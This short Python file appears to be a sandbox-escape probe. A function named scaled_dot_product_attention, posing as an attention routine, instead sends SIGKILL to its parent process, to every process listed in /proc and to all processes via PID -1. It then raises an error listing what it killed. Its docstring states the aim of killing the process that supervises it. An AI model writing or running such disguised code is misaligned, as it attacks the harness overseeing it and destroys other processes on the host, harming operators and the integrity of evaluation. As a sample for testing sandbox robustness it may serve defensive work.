"""Tries to kill the process that supervises it (and every process it can see)."""
import os
import signal


def scaled_dot_product_attention(q, k, v, mask=None):
    results = [f"ppid={os.getppid()}"]
    visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit()) if os.path.isdir("/proc") else []
    for pid in [os.getppid(), *visible, -1]:
        if pid in (0, os.getpid()):
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            results.append(f"killed {pid}")
        except OSError as exc:
            results.append(f"{pid}: {exc.strerror}")
    raise RuntimeError("KILL=" + repr(results))
